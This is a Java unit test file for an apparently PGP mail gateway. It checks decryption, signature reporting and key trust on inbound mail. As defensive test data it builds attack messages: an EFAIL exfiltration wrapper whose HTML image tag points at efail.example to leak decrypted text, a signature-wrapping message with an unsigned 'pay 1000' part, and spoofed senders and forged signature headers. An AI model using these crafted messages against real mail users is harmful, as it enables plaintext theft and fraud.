package org.sallyport.encryption.protection;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.sallyport.encryption.protection.ProtectionRoom.BOB;
import static org.sallyport.encryption.protection.ProtectionRoom.PAT;
import static org.sallyport.encryption.protection.ProtectionRoom.decision;
import static org.sallyport.encryption.protection.ProtectionRoom.message;
import static org.sallyport.encryption.protection.ProtectionRoom.sole;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sallyport.encryption.consumer.Consumer;
import org.sallyport.encryption.key.TrustLevel;
import org.sallyport.encryption.mailrule.Decision;
import org.sallyport.encryption.mailrule.Direction;
import org.sallyport.encryption.mailrule.Marking;
import org.sallyport.encryption.mailrule.Treatment;
import org.sallyport.encryption.policy.KeyMode;
import org.sallyport.mime.pgp.SignedMessage;
import org.sallyport.mime.structure.Message;
import org.sallyport.openpgp.Key;
import org.sallyport.openpgp.Revocation;
import org.sallyport.openpgp.Signing;

/** What comes in: opened for whom it is, and never said to be more than it is. */
class OpenedFormTest {
  private static final String GOOD = "X-Sallyport-Signature: good; of=sender";

  @TempDir private Path folder;
  private ProtectionRoom room;
  private Key pat;
  private Key bob;

  @BeforeEach
  void open() {
    room = new ProtectionRoom(folder);
    bob = room.person(BOB, KeyMode.SKM);
    pat = room.trusted("Pat <pat@partner.example>", TrustLevel.TRUSTED);
  }

  @AfterEach
  void close() throws IOException {
    room.close();
    if (Files.exists(room.spools())) {
      try (var left = Files.list(room.spools())) {
        assertThat(left).isEmpty();
      }
    }
  }

  private static String letter() {
    return letter(PAT);
  }

  private static String letter(String from) {
    return """
    Received: from partner by mail.example.com; Mon, 23 Nov 2026 10:00:00 +0000
    X-Sallyport-Passed: an earlier gateway
    X-Sallyport-Signature: good; of=sender; invented=yes
    From: Pat <%s>
    To: bob@example.com
    Date: Mon, 23 Nov 2026 10:00:00 +0000
    Message-ID: <1@partner.example>
    Subject: The offer
    Content-Type: text/plain; charset=utf-8
    Content-Transfer-Encoding: 8bit

    Ten \u00c3\u00a4pples.
    """
        .formatted(from)
        .replace("\n", "\r\n");
  }

  private static Decision open(Marking marking) {
    return decision(Direction.INBOUND, new Treatment.Decrypt(marking));
  }

  private String opened(String message, Marking marking, boolean opens, String to)
      throws IOException {
    var read = message(message);
    var form = sole(room.plan(PAT, read, _ -> open(marking), to));
    var sink = new ByteArrayOutputStream();
    assertThat(room.protection().write(read, form, sink).orThrow()).isEqualTo(opens);
    return sink.toString(ISO_8859_1);
  }

  private String opened(String message) throws IOException {
    return opened(message, Marking.HEADER, true, BOB);
  }

  private String signed(String message, Key by) throws IOException {
    var sink = new ByteArrayOutputStream();
    SignedMessage.write(
            message(message),
            Signing.by(List.of(by), room.test.clock.instant(), ProtectionRoom.ALGORITHMS),
            folder,
            sink)
        .orThrow();
    return sink.toString(ISO_8859_1);
  }

  @Test
  void what_is_encrypted_to_a_recipient_arrives_open_and_marked() throws IOException {
    var plain = opened(room.encrypted(letter(), bob.certificate(), pat));
    assertThat(plain)
        .startsWith("X-Sallyport-Decrypted: yes\r\n" + GOOD)
        .contains("key=" + pat.fingerprint(), "trust=trusted")
        .contains("Subject: The offer\r\n", "X-Sallyport-Passed: an earlier gateway\r\n")
        .endsWith("\r\n\r\nTen \u00c3\u00a4pples.\r\n")
        .doesNotContain("invented", "hp=");
    assertThat(plain.split("X-Sallyport-Passed", -1)).hasSize(2);
    assertThat(message(plain).findings()).isEmpty();
  }

  @Test
  void a_banner_stands_above_what_was_decrypted_and_changes_none_of_it() throws IOException {
    var plain = opened(room.encrypted(letter(), bob.certificate(), pat), Marking.BANNER, true, BOB);
    var read = message(plain);
    assertThat(read.findings()).isEmpty();
    assertThat(read.root().type().is("multipart/mixed")).isTrue();
    assertThat(read.header().text("Subject")).isEqualTo("The offer");
    assertThat(content(read, 0))
        .contains("the mail server decrypted it")
        .contains("signed by its sender, with a key that an administrator has looked at");
    assertThat(content(read, 1)).isEqualTo("Ten \u00c3\u00a4pples.\r\n");
    assertThat(read.root().parts().get(1).type().parameter("charset")).contains("utf-8");
  }

  private static String content(Message message, int part) throws IOException {
    try (var in = message.content(message.root().parts().get(part))) {
      return new String(in.readAllBytes(), ISO_8859_1);
    }
  }

  @Test
  void without_marking_nothing_is_said_and_nothing_invented_stays() throws IOException {
    assertThat(opened(room.encrypted(letter(), bob.certificate()), Marking.NONE, true, BOB))
        .doesNotContain("X-Sallyport-Decrypted", "X-Sallyport-Signature")
        .contains("Ten");
  }

  @ParameterizedTest
  @EnumSource(KeyMode.class)
  void the_server_opens_what_the_mode_of_the_key_lets_it(KeyMode mode) throws IOException {
    var eve = room.person("eve@example.com", mode);
    var encrypted = room.encrypted(letter(), eve.certificate());
    var opens = mode == KeyMode.SKM || mode == KeyMode.SCKM;
    var written = opened(encrypted, Marking.HEADER, opens, "eve@example.com");
    if (opens) {
      assertThat(written).contains("Ten");
    } else {
      assertThat(written)
          .startsWith("X-Sallyport-Decrypted: no; the server has no key that opens it\r\n")
          .contains("X-Sallyport-Signature: none\r\n")
          .endsWith(body(encrypted))
          .doesNotContain("invented");
    }
  }

  private static String head(String message) {
    return message.substring(0, message.indexOf("\r\n\r\n"));
  }

  private static String body(String message) {
    return message.substring(message.indexOf("\r\n\r\n"));
  }

  @Test
  void the_key_of_one_recipient_opens_nothing_for_another() throws IOException {
    room.person("eve@example.com", KeyMode.SKM);
    var encrypted = room.encrypted(letter(), bob.certificate(), pat);
    var plan =
        room.plan(PAT, message(encrypted), _ -> open(Marking.HEADER), BOB, "eve@example.com");
    assertThat(plan.copies()).hasSize(2);
    assertThat(opened(encrypted, Marking.HEADER, false, "eve@example.com"))
        .contains("X-Sallyport-Decrypted: no;")
        .doesNotContain("Ten");
  }

  @Test
  void a_signature_is_told_for_what_it_is() throws IOException {
    var by = signed(letter(), pat);
    assertThat(opened(by)).startsWith("X-Sallyport-Decrypted: no; it is not encrypted\r\n" + GOOD);
    assertThat(opened(by)).endsWith(body(by)).doesNotContain("changed=");
    assertThat(opened(by.replaceFirst("Subject: ", "Subject: [list] ")))
        .contains(GOOD)
        .contains("changed=subject\r\n");
    assertThat(opened(by.replace("pples", "ears"))).contains("X-Sallyport-Signature: bad; ");
    assertThat(opened(signed(letter(), room.key("Eve <pat@partner.example>"))))
        .contains("X-Sallyport-Signature: unknown; key-id=");
    var mallory = room.trusted("mallory@elsewhere.example", TrustLevel.TRUSTED);
    assertThat(head(opened(signed(letter(), mallory)))).doesNotContain(GOOD);
    assertThat(opened(signed(letter("mallory@elsewhere.example"), mallory))).contains(GOOD);
    room.trust(pat, TrustLevel.REFUSED);
    assertThat(opened(by)).contains("X-Sallyport-Signature: unknown; key-id=");
  }

  /** EFAIL, direct exfiltration: the plain text would become part of an image's address. */
  @ParameterizedTest
  @ValueSource(strings = {"mixed", "alternative", "related", "digest"})
  void an_encrypted_part_among_others_stays_closed(String subtype) throws IOException {
    var encrypted = room.encrypted(letter(), bob.certificate(), pat);
    var wrapped =
        "From: Pat <pat@partner.example>\r\nTo: bob@example.com\r\nContent-Type: multipart/"
            + subtype
            + "; boundary=efail\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n"
            + "<img src=\"http://efail.example/\r\n--efail\r\n"
            + encrypted.substring(encrypted.indexOf("Content-Type: multipart/"))
            + "\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n";
    var form = sole(room.plan(PAT, message(wrapped), _ -> open(Marking.BANNER), BOB));
    assertThat(form).isEqualTo(new Form.Untouched());
    // Even where somebody asks for it to be opened.
    var asked = new Form.Opened(List.of(bob.fingerprint()), List.of(), Marking.HEADER, List.of());
    assertThat(room.written(wrapped, asked))
        .doesNotContain("Ten", "good")
        .startsWith("X-Sallyport-Decrypted: no; not all of it is encrypted\r\n");
  }

  /** A signed part in front of, or within, something that nobody signed. */
  @Test
  void a_signed_part_among_others_is_not_told_as_a_signed_message() throws IOException {
    var by = signed(letter(), pat);
    var wrapped =
        "X-Sallyport-Signature: good; of=sender\r\nFrom: Pat <pat@partner.example>\r\n"
            + "Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n\r\npay 1000\r\n--w\r\n"
            + by.substring(by.indexOf("Content-Type: multipart/"))
            + "\r\n--w--\r\n";
    assertThat(sole(room.plan(PAT, message(wrapped), _ -> open(Marking.HEADER), BOB)))
        .isEqualTo(new Form.Marked(List.of()));
    var asked = new Form.Opened(List.of(), List.of(), Marking.HEADER, List.of());
    assertThat(head(room.written(wrapped, asked))).doesNotContain("good; of=sender");
  }

  @Test
  void a_message_with_a_third_part_is_refused_and_arrives_as_it_came() throws IOException {
    var encrypted = room.encrypted(letter(), bob.certificate(), pat);
    int end = encrypted.lastIndexOf("--sallyport-");
    var boundary = encrypted.substring(end).strip().replaceAll("--$", "");
    var third =
        encrypted.substring(0, end)
            + boundary
            + "\r\nContent-Type: text/html\r\n\r\n<b>\r\n"
            + encrypted.substring(end);
    assertThat(opened(third, Marking.HEADER, false, BOB))
        .startsWith("X-Sallyport-Decrypted: no; it has 3 parts where two belong\r\n")
        .doesNotContain("Ten")
        .endsWith(body(third));
  }

  @Test
  void another_sender_inside_is_told() throws IOException {
    var encrypted = room.encrypted(letter(), bob.certificate());
    var spoofed = encrypted.replaceFirst("From: Pat <pat@", "From: Ceo <ceo@");
    assertThat(opened(spoofed))
        .contains("X-Sallyport-Decrypted: yes; from-differs", "X-Sallyport-Signature: none")
        .contains("From: Ceo");
  }

  @Test
  void nothing_is_opened_for_who_may_no_longer_use_the_server() throws IOException {
    var who = room.test.consumer(BOB);
    room.test.store.write(
        in ->
            room.test
                .domain
                .consumers()
                .state(in, "administrator", who.id(), Consumer.State.DISABLED));
    assertThat(opened(room.encrypted(letter(), bob.certificate()), Marking.HEADER, false, BOB))
        .doesNotContain("Ten");
  }

  @Test
  void odd_octets_in_the_loop_guards_field_do_no_harm() throws IOException {
    var odd =
        room.encrypted(letter(), bob.certificate())
            .replaceFirst("an earlier gateway", "an \u0001 gateway");
    assertThat(opened(odd)).contains("X-Sallyport-Passed: an gateway\r\n", "Ten");
  }

  @Test
  void the_signature_of_a_key_that_was_withdrawn_counts_no_more() throws IOException {
    var who = room.test.consumer("eve@example.com");
    var eve = room.person(who, KeyMode.CKM);
    var by = signed(letter("eve@example.com"), eve);
    assertThat(head(opened(by))).contains(GOOD);
    room.test
        .domain
        .keys()
        .own()
        .revoke(
            "administrator", who, eve.fingerprint(), new Revocation(Revocation.Reason.COMPROMISED));
    assertThat(head(opened(by))).contains("X-Sallyport-Signature: unknown;");
  }
}
